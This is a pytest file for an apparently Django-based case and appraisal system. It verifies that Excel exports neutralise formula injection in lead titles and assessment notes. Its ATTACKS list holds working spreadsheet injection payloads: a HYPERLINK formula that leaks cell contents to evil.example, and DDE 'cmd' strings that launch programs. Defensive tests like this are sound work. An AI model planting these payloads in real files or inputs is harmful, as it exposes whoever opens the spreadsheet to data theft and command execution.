"""Every workbook the product writes keeps formula-looking text as text (issue 15, item 5).

Personas (``conftest.py``): emergency_officer refers a lead whose title is an attack and records
the year's unit results with notes; organization_officer records a cadre's result;
discipline_officer downloads both workbooks.
"""

from __future__ import annotations

import io

import pytest

from web.tests.helpers import OFFICER, TOUZHA_HEAD, YEAR, record_cadre_result

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _no_formula(content: bytes) -> list[str]:
    """Every string cell of the workbook, asserting none is (or would be evaluated as) a formula."""
    from openpyxl import load_workbook

    texts = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    return texts


def test_case_export_keeps_formula_leading_titles_as_text(api, login, world):
    from cases.tests._resources_helpers import _lead_body

    client = api("emergency_officer")
    for title in ATTACKS:
        response = client.post("/api/v1/leads/", _lead_body(world, title=title), format="json")
        assert response.status_code == 201, response.content
    response = login(OFFICER).get("/cases/export.xlsx")
    assert response.status_code == 200
    texts = _no_formula(response.content)
    assert set(ATTACKS[:4]) <= set(texts)  # shown exactly as typed (titles are stripped of tab and CR)


def test_assessment_report_keeps_formula_leading_notes_as_text(client_as, world):
    from appraisal.services.assessment import assessment_record

    for unit, note in zip(("pl-touzha", "pl-baofeng", "pl-park"), ATTACKS, strict=False):
        assessment_record(
            acting_user=world.users["emergency_officer"], year=YEAR, grade="pass", department=world.departments[unit], note=note
        )
    record_cadre_result(world, TOUZHA_HEAD)
    from appraisal.models import AnnualAssessment

    AnnualAssessment.objects.filter(cadre__isnull=False).update(note=ATTACKS[3])
    response = client_as(OFFICER).get(f"/assessment/report.xlsx?year={YEAR}")
    assert response.status_code == 200
    texts = _no_formula(response.content)
    assert set(ATTACKS[:4]) <= set(texts)
